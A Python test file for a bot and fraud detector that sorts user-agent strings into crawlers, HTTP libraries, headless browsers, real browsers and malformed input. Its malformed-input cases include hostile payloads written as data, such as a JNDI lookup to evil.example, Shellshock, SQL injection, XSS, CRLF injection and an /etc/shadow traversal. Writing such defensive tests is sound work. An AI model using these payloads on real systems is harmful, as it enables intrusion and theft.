import gzip
import json
import re

import pytest
from crawleruseragents import CRAWLER_USER_AGENTS_DATA

from fraud import ORDINARY, inspect_agent
from fraud.agents import _LIBRARIES, _NARROWED, _matcher, readable_name
from tests.support.clicks import CHROME, GOOGLEBOT, PHONE

IN_APP = (
    "Mozilla/5.0 (Linux; Android 16; Pixel 10 Build/CP1A.260305.018; wv) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Version/4.0 Chrome/146.0.7680.174 Mobile Safari/537.36"
)


@pytest.mark.parametrize(
    ("user_agent", "reason", "family"),
    [
        (GOOGLEBOT, "bot_user_agent", "Googlebot"),
        (
            "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
            "bot_user_agent",
            "facebookexternalhit",
        ),
        ("WhatsApp/2.19.175 A", "bot_user_agent", "WhatsApp"),
        ("curl/8.5.0", "http_library", "curl"),
        ("Wget/1.14 (linux-gnu)", "http_library", "Wget"),
        ("python-requests/2.32.3", "http_library", "python-requests"),
        ("Go-http-client/1.1", "http_library", "Go-http-client"),
        ("okhttp/4.12.0", "http_library", "okhttp"),
        ("Java/17.0.6", "http_library", "Java"),
        ("PostmanRuntime/7.39.0", "http_library", "PostmanRuntime"),
        ("Mozilla/5.0 (Windows NT; Windows NT 10.0) WindowsPowerShell/5.1.22621", "http_library", "PowerShell"),
        (CHROME.replace("Chrome", "HeadlessChrome"), "headless_browser", "HeadlessChrome"),
        (
            "Mozilla/5.0 (Unknown; Linux x86_64) AppleWebKit/534.34 PhantomJS/1.9.2 Safari/534.34",
            "headless_browser",
            "PhantomJS",
        ),
        ("Mozilla/5.0 (linux) AppleWebKit/537.36 (KHTML, like Gecko) jsdom/22.1.0", "headless_browser", "jsdom"),
        (CHROME + " puppeteer", "headless_browser", "Puppeteer"),
    ],
)
def test_a_program_is_named_with_its_reason(user_agent, reason, family):
    assert inspect_agent(user_agent) == (reason, True, family)


@pytest.mark.parametrize("user_agent", ["", " ", "-", "\t"])
def test_a_missing_user_agent_is_empty(user_agent):
    assert inspect_agent(user_agent).reason == "empty_user_agent"


@pytest.mark.parametrize(
    "user_agent",
    [
        "abc",
        "null",
        "12345 / 67",
        "{user_agent}",
        "%7Buser_agent%7D",
        "'" + CHROME + "'",
        "User-Agent: " + CHROME,
        "Mozilla%2F5.0%20(Windows)",
        "Mozilla/5.0\r\nX-Injected: 1",
        "Mozilla/5.0 <script>alert(1)</script>",
        "Mozilla ${jndi:ldap://evil.example/a}",
        "() { :; }; /bin/bash -c id",
        "[UA]",
        "Mozilla/5.0'\"",
        "Mozilla/5.0",
        "Mozilla/5.0 (",
        "1' OR '1'='1",
        "1 UNION ALL SELECT NULL--",
        "x';waitfor delay '0:0:5'--",
        "<?php system('id') ?> http://evil.example/",
        "../../../etc/shadow",
        "Mozilla/5.0 " + "x" * 2000,
    ],
)
def test_what_no_browser_writes_is_malformed(user_agent):
    finding = inspect_agent(user_agent)
    assert (finding.reason, finding.is_bot, finding.bot_family) == ("malformed_user_agent", False, "")


@pytest.mark.parametrize(
    "user_agent",
    [
        CHROME,
        PHONE,
        IN_APP + " MetaIAB Facebook",
        IN_APP.replace("CP1A.260305.018", "AP3A.240617.008") + " Instagram 406.0.0.58.159 Android",
        IN_APP + " Viber/23.1",
        "Opera/9.80 (MAUI Runtime; Opera Mini/4.4.39008/37.9178; U; en) Presto/2.12.423 Version/12.16",
        "Mozilla/5.0 (iPad; U; CPU iPhone OS 7_0 like Mac OS X; de-DE) WIRED/3.2.3.11.87970",
        "Mozilla/5.0 (Linux; Android 9; CUBOT_X19) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/91.0.4472.120 Mobile Safari/537.36",
        "Mozilla/5.0 (Windows NT 10.0; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/80.0.3987.87 Safari/537.36 SE 2.X MetaSr 1.0",
        IN_APP + " SogouSearch Android1.0 version3.0",
        "Avant Browser/1.2.789rel1 (http://www.avantbrowser.com)",
        "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; SV1; http://www.tropicdesigns.net)",
        'Mozilla/5.0 (iPhone; CPU iPhone OS 9_3_4 like Mac OS X) Outlook-iOS-Android/1.0 Mobile/13G35 Safari/601.1.46")',
        "[FBAN/FB4A;FBAV/3.4;FBBV/258875;FBDM/{density=0.75,width=240,height=320};FBLC/tr_TR;FBPN/com.facebook.katana]",
    ],
)
def test_a_browser_people_use_is_ordinary(user_agent):
    assert inspect_agent(user_agent) == ORDINARY


@pytest.mark.parametrize(
    ("user_agent", "name"),
    [
        ("Mozilla/5.0 (compatible; Ezooms/1.0; help@moz.com)", "Ezooms"),
        ("UniversalFeedParser/4.2-pre-314-svn +http://feedparser.org/", "UniversalFeedParser"),
        ("Acme Links 2, http://acme.example/links", "Acme Links 2"),
        ("DoCoMo/2.0 N902iS(c100;TB;W24H12)(compatible; moba-reader; http://moba.example/)", "moba-reader"),
        ("Mozilla/5.0 (X11; Linux) Firefox/115.0 (+https://acme.example/why)", ""),
    ],
)
def test_a_program_nobody_has_listed_is_told_by_the_address_it_gives(user_agent, name):
    assert inspect_agent(user_agent) == ("bot_user_agent", True, name)


def test_a_spider_behind_a_browser_s_name_is_not_called_by_it():
    assert inspect_agent(CHROME + " slur", "Chrome") == ("bot_user_agent", True, "Spider")


def test_what_the_parser_takes_for_a_spider_is_a_bot_under_that_name():
    assert inspect_agent("EasouThing/1.0", "EasouThing") == ("bot_user_agent", True, "EasouThing")


def test_every_example_of_the_package_is_named_except_for_people_s_browsers():
    unnamed = {
        crawler["pattern"]
        for crawler in CRAWLER_USER_AGENTS_DATA
        for example in crawler["instances"]
        if not inspect_agent(example).is_bot
    }
    assert unnamed == {pattern for pattern, instead in _NARROWED.items() if not instead}


def test_every_narrowed_pattern_is_still_in_the_package():
    assert _NARROWED.keys() <= {crawler["pattern"] for crawler in CRAWLER_USER_AGENTS_DATA}


def test_every_listed_library_is_named_with_and_without_a_version():
    for name in _LIBRARIES:
        assert inspect_agent(name).reason == inspect_agent(f"{name}/1.2").reason == "http_library", name


@pytest.mark.parametrize(
    ("pattern", "name"),
    [
        ("Googlebot\\/", "Googlebot"),
        ("[wW]get", "Wget"),
        ("S[eE][mM]rushBot", "SEMrushBot"),
        ("Ahrefs(Bot|SiteAudit)", "AhrefsBot"),
        ("AdsBot-Google([^-]|$)", "AdsBot-Google"),
        ("(^| )PTST\\/", "PTST"),
        ("Netumo|netumo", "Netumo"),
        ("Mediapartners \\(Googlebot\\)", "Mediapartners (Googlebot)"),
        ("Owler \\(ows\\.eu", "Owler"),
        ("ContextualBot[\\s\\S]*outcomes\\.net", "ContextualBot"),
        ("^curl", "curl"),
    ],
)
def test_a_pattern_becomes_a_readable_name(pattern, name):
    assert readable_name(pattern) == name


def test_no_family_looks_like_a_pattern():
    _, findings = _matcher()
    odd = [f.bot_family for f in findings if not f.bot_family.strip() or re.search(r"[\\^$*\[\]|]", f.bot_family)]
    assert odd == []


@pytest.mark.realdata
def test_at_most_one_in_a_thousand_real_browsers_is_flagged(realdata):
    with gzip.open(realdata / "ua" / "user_agents_weighted.json.gz") as file:
        profiles = json.load(file)
    flagged = sum(p["weight"] for p in profiles if inspect_agent(p["userAgent"]) != ORDINARY)
    assert flagged / sum(p["weight"] for p in profiles) <= 0.001


@pytest.mark.realdata
def test_known_crawlers_of_the_shared_list_are_named(realdata):
    crawlers = json.loads((realdata / "ua" / "crawler-user-agents.json").read_text())
    examples = [example for crawler in crawlers for example in crawler["instances"]]
    named = sum(inspect_agent(example).is_bot for example in examples)
    assert named / len(examples) >= 0.99
